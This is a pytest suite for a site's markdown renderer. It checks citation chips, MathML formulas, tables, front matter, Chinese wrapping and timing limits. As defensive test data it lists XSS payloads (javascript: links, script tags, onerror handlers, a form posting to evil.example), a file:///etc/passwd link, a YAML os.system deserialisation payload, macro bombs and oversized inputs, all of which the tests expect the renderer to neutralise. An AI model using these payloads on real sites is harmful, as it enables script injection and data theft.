"""Markdown: what is shown, what is never run, and where a citation leads."""

from __future__ import annotations

import re
import time

import pytest

from kbsite.markdown import blocks, outline, plain, render

SOURCES = {1: "#s1", 2: "#s2", 3: "#s3"}


def cited(html: str) -> list[str]:
    """The addresses of the citation chips, in order."""
    return re.findall(r'class="cite" href="([^"]*)"', html)


@pytest.mark.parametrize(
    "hostile",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](\\\\evil.example)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<script>alert(1)</script>",
        "<div onclick='alert(1)'>x</div>",
        "<a href='javascript:alert(1)'>x</a>",
        "<form action='https://evil.example'><input name=q></form>",
        '<iframe src="https://evil.example"></iframe>',
        "<style>body{display:none}</style>",
        '<br onclick="alert(1)">',
        "`<script>`<script>alert(1)</script>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        '[x](https://a.example "onmouseover=alert(1) x=")',
        "[a]: javascript:alert(1)\n\n[a]",
    ],
)
def test_nothing_that_runs_survives(hostile: str) -> None:
    """Raw HTML is text; links go to http, https, mailto and our own pages only."""
    html = render(hostile)
    assert not re.search(r"<(?:script|img|svg|iframe|form|style|object)\b", html)
    assert not re.search(r"<[^>]+\son\w+\s*=", html)
    for address in re.findall(r'href="([^"]*)"', html):
        assert address.startswith(("https://a.example", "#"))


def test_a_picture_from_elsewhere_is_a_link() -> None:
    """Looking at an answer loads nothing and tells nobody."""
    html = render("![receipt](https://evil.example/?q=secret)")
    assert "<img" not in html
    assert '<a class="image" href="https://evil.example/?q=secret"' in html


def test_code_is_always_text() -> None:
    """A fence without a language never renders what is in it; one with a language has colour classes."""
    assert "&lt;form&gt;" in render("```\n<form>\n```")
    assert "&lt;form&gt;" in render("```mermaid\ngraph <form>")
    html = render("```python\ndef f(): pass\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


@pytest.mark.parametrize(
    ("text", "leads_to"),
    [
        ("a [1] b", ["#s1"]),
        ("a[1][2]", ["#s1", "#s2"]),
        ("甲【2】。", ["#s2"]),
        ("a [1, 3]", ["#s1", "#s3"]),
        ("a [1，2]", ["#s1", "#s2"]),
        ("a [1-3]", ["#s1", "#s2", "#s3"]),
        ("a [9] [1]", ["#s1"]),
        ("in **bold [1]** and *soft [2]*", ["#s1", "#s2"]),
        ("| a |\n|---|\n| x [1] |", ["#s1"]),
        ("`a[1]` and\n\n```\nb[2]\n```", []),
        ("[1](https://a.example)", []),
        ("the year [2024], list[0]", []),
    ],
)
def test_citations_open_their_source(text: str, leads_to: list[str]) -> None:
    """Each known number becomes a chip, wherever it stands, but not in code."""
    assert cited(render(text, citations=SOURCES)) == leads_to


def test_numbers_without_a_source_are_dropped() -> None:
    """A number that points nowhere is not shown; without a mapping, brackets stay as written."""
    assert render("It is so [9].", citations=SOURCES) == "<p>It is so.</p>\n"
    assert render("It is so [9].") == "<p>It is so [9].</p>\n"
    assert "[2024]" in render("In [2024].", citations=SOURCES)


def test_uneven_tables_are_tables() -> None:
    """Models miscount cells: short rows are filled, long ones cut, and a wide table scrolls alone."""
    html = render("before\n| a | b |\n|:--|--:|\n| 1 |\n| 1 | 2 | 3 |")
    assert html.count("<td") == 4
    assert '<td class="right"></td>' in html
    assert 'class="table" role="region"' in html


def test_money_is_not_a_formula() -> None:
    """Dollar amounts stay; what is a formula is out of reach of * and _."""
    assert "<math" not in render("It costs $5 and later $10.")
    assert "<msub><mi>a</mi><mn>1</mn></msub>" in render("so $a_1*b*c$ holds")
    assert "<msub><mi>x</mi><mn>1</mn></msub>" in render(r"so \(x_1\) holds")
    assert "<em>" not in render("$$\na_1 * b_2 * c\n$$")


@pytest.mark.parametrize(
    "written",
    [
        "$$\n\\frac{a}{b}\n$$",
        "$$\\frac{a}{b}$$",
        "\\[\n\\frac{a}{b}\n\\]",
        "- $$\n  \\frac{a}{b}\n  $$",
        "> $$\\frac{a}{b}$$",
    ],
)
def test_a_formula_on_lines_of_its_own_is_drawn(written: str) -> None:
    """In MathML, which browsers draw and read aloud; also in lists and quotes."""
    html = render(written)
    assert '<math display="block"><mrow><mfrac>' in html
    assert 'class="formula" tabindex="0" role="group" aria-label="Formula"' in html


@pytest.mark.parametrize(
    "source",
    [
        r"\unheard{x}",
        r"x^y^z",
        r"\frac{a}",
        "{" * 3000,
        "{" * 60 + "x" + "}" * 60,
        r"\left(" * 60 + "x" + r"\right)" * 60,
        r"\sqrt" * 400 + "x",
        "a" * 2500,
        r"\newcommand{\a}{x}\a",
        r"\def\a{\a\a}\a",
        r"\href{javascript:alert(1)}{x}",
        r"\style{color:red}{x}",
        r"\verb",
    ],
)
def test_what_can_t_be_drawn_shows_its_source(source: str) -> None:
    """Unknown, broken, deep, long and hostile formulas; none takes long."""
    started = time.perf_counter()
    html = render(f"$${source}$$")
    assert "<math" not in html
    assert source[:5] in html
    assert time.perf_counter() - started < 0.5


def test_a_formula_holds_nothing_but_a_formula() -> None:
    """No tag, address, style or endless width comes in through one."""
    html = render(r"$\text{<img src=x onerror=alert(1)><script>}$ $\color{red}x$ $\hspace{100000em}$")
    assert html.count("<math") == 3
    assert not re.search(r"<(?:img|script)|100000em|mathcolor|style=", html)


def test_many_formulas_are_bounded() -> None:
    """A text of nothing but formulas is shown, the first two thousand drawn."""
    html = render("$x$ " * 2500)
    assert html.count("<math") == 2000
    assert html.count("<code>x</code>") == 500


def test_front_matter_is_fields_and_no_heading() -> None:
    """Folded at the top; a rule further down stays a rule."""
    text = "---\ntitle: 差旅 <b>\ntags: [a, b]\nwhen: 2026-01-02\n---\n# Heading\n\nx\n\n---\n\ny"
    html = render(text, heading_prefix="l2-")
    assert '<details class="front-matter"><summary>' in html
    assert "<th>title</th><td>差旅 &lt;b&gt;</td>" in html
    assert "<th>tags</th><td>a, b</td>" in html
    assert html.count("<hr>") == 1
    assert [heading.text for heading in outline(text)] == ["Heading"]
    assert plain(text) == "Heading x y"


@pytest.mark.parametrize(
    "broken",
    [
        "---\ntitle: [\n---\nwords",
        "---\na: &a [1]\nb: [*a, *a]\n---\nwords",
        "---\na: !!python/object/apply:os.system [ls]\n---\nwords",
        "---\na: " + "[" * 3000 + "\n---\nwords",
        "---\na: 2026-99-99\n---\nwords",
        "---\n" + "".join(f"f{n}: 1\n" for n in range(200)) + "---\nwords",
    ],
)
def test_front_matter_that_can_t_be_read_is_shown_as_it_is(broken: str) -> None:
    """No exception, no bomb, no heading."""
    html = render(broken)
    assert html.startswith('<pre class="code"')
    assert html.endswith("<p>words</p>\n")
    assert outline(broken) == []


@pytest.mark.parametrize(
    "text", ["---\n\nhello\n\n---\nx", "---\nhello\n---", "---", "---\na: b", "--- a: b ---"]
)
def test_a_rule_at_the_top_is_no_front_matter(text: str) -> None:
    """Only fields between two rules are."""
    assert "front-matter" not in render(text)


def test_hard_wrapped_chinese_has_no_blanks() -> None:
    """A line's end between two Chinese letters shows nothing; between words it is a blank."""
    assert render("员工先\n申请。\n**再**\n*出差*") == "<p>员工先申请。<strong>再</strong><em>出差</em></p>\n"
    assert render("one\ntwo 差旅\nthree") == "<p>one\ntwo 差旅\nthree</p>\n"
    assert plain("员工先\n申请。\n**再**\n出差\nand so") == "员工先申请。再出差 and so"
    assert "中\n文" in render("```\n中\n文\n```")


def test_a_citation_before_a_colon() -> None:
    """Is one, also at the start of a line, where it would otherwise name an address."""
    assert cited(render("According to [1]: words", citations=SOURCES)) == ["#s1"]
    assert cited(render("[2]: words", citations=SOURCES)) == ["#s2"]
    assert 'href="https://a.example"' in render("[x][1]\n\n[1]: https://a.example")


def test_a_picture_of_ours_is_shown() -> None:
    """Loaded when it comes into view; whatever else claims to be one is not."""
    ours = "/pictures/01890000-0000-7000-8000-000000000000/"
    assert f'<img src="{ours}" alt="a &quot;b&quot;" loading="lazy">' in render(f'![a "b"]({ours})')
    for other in (
        f"{ours}x",
        f"https://evil.example{ours}",
        "/pictures/../logout/",
        f"{ours}?x=1",
        f"//{ours}",
    ):
        assert "<img" not in render(f"![a]({other})")


HUGE = 1_000_000


@pytest.mark.parametrize(
    "piece",
    [
        *(
            "[",
            "](",
            "[a](",
            "![",
            "*",
            "*a**b",
            "_a",
            "`",
            "$",
            "$$a\n",
            "\\[\n",
            "\\(",
            "<",
            "<!--",
            "<!--\n",
        ),
        *(
            "<a ",
            "> ",
            "- ",
            "1. ",
            "> - ",
            "|",
            "|a|\n",
            "[^1]",
            "[1]",
            "#",
            "~~a",
            "\\",
            "&",
            "---\n",
            "词",
        ),
        *("a\x00", "a\ud800", "\r", "http://", "```a\n\n", "    a\n", "==a"),
    ],
)
def test_a_megabyte_of_anything_is_shown_soon(piece: str) -> None:
    """Nothing that can be typed takes a page down: no exception, no long wait."""
    started = time.process_time()
    assert render(piece * (HUGE // len(piece)))
    assert time.process_time() - started < 4.0


@pytest.mark.parametrize(
    "text",
    [
        ">" * 10_000 + " x",
        "[" * 10_000 + "x" + "](y)" * 10_000,
        "*" * 10_000 + "x" + "*" * 10_000,
        "".join("  " * n + "- x\n" for n in range(500)),
        "|a" * 10_000 + "\n" + "|-" * 10_000 + "\n" + "|\n" * 10_000,
        "|a" * 400 + "\n" + "|-" * 400 + "\n" + "|\n" * 40_000,
        "```\n" + "x\n" * 100_000,
        "x" * HUGE,
    ],
)
def test_what_is_deep_or_wide_is_shown_soon(text: str) -> None:
    """Ten thousand quotes, brackets, stars or columns."""
    started = time.process_time()
    assert "x" in render(text) or "a" in render(text[:1000])
    assert time.process_time() - started < 4.0


def test_bare_links_end_at_chinese_punctuation() -> None:
    """The comma after an address is not part of it."""
    assert 'href="https://a.example/x"' in render("见 https://a.example/x，然后。")


def test_headings_leave_the_page_its_own() -> None:
    """A text's first level is the page's third, and ids are the outline's."""
    text = "# One\n\n## 第一章 *总则*\n\n## One\n\n#### Deep"
    html = render(text, heading_prefix="l2-")
    found = outline(text, heading_prefix="l2-")
    assert "<h1" not in html and '<h3 id="l2-one">One</h3>' in html
    assert [heading.text for heading in found] == ["One", "第一章 总则", "One"]
    assert len({heading.id for heading in found}) == 3
    assert all(f'id="{heading.id}"' in html for heading in found)


def test_right_to_left_text_knows_its_direction() -> None:
    """Only texts that need it carry the attribute."""
    assert '<p dir="auto">' in render("مرحبا")
    assert "dir=" not in render("hello")


def test_our_own_addresses_open_our_pages() -> None:
    """sk:// leads to the skill's page; a path relative to a lost place leads nowhere."""
    assert 'href="/skills/%E5%B7%AE%E6%97%85/"' in render("[s](sk://skills/差旅)")
    assert "href" not in render("[s](../other.md)")


GROWING = (
    "# T\n\nOne *a*\nb.\n\n- x\n\n- y\n\n  more\n\n1. n\n\n```python\nx = 1\n\n\ny = 2\n```\n\n"
    "| a |\n|---|\n| 1 |\n\n$$\na\n\nb\n$$\n\nlast\n"
)


def test_blocks_join_to_the_text_and_only_the_last_changes() -> None:
    """However the text arrives, a block that was closed stays as it was."""
    before: list[str] = []
    for end in range(1, len(GROWING) + 1):
        now = blocks(GROWING[:end])
        assert "".join(now) == GROWING[:end]
        assert now[: len(before) - 1] == before[:-1]
        before = now
    assert "```python\nx = 1\n\n\ny = 2\n```\n\n" in before
    assert "$$\na\n\nb\n$$\n\n" in before


def test_an_open_fence_is_one_block() -> None:
    """Half a listing is a listing."""
    assert len(blocks("a\n\n```js\nlet a\n\nlet b\n\n")) == 2


def test_plain_words() -> None:
    """No markup, one line."""
    assert plain("## The *end*\n\n- a [b](https://c.example)\n- `d`\n\n| x | y |\n|--|--|\n| 1 | 2 |") == (
        "The end a b d x y 1 2"
    )
    assert plain("") == ""


def test_long_texts_are_quick() -> None:
    """200,000 characters of prose render well under a second."""
    text = ("员工境内出差的交通、住宿、补贴标准与报销流程。" * 12 + "\n\n## 标题\n\n- a\n- b\n\n") * 650
    started = time.perf_counter()
    render(text)
    assert time.perf_counter() - started < 1.0


def test_headings_leave_no_level_out() -> None:
    """A text that begins at ## begins where # would; #### right under it is one level down, not two."""
    html = render("## A\n\n#### B\n\n## C\n\n# D\n\n## E", heading_prefix="x-")
    levels = re.findall(r"<h(\d) [^>]*id=\"x-(\w)\"", html)
    assert levels == [("3", "a"), ("4", "b"), ("3", "c"), ("3", "d"), ("4", "e")]
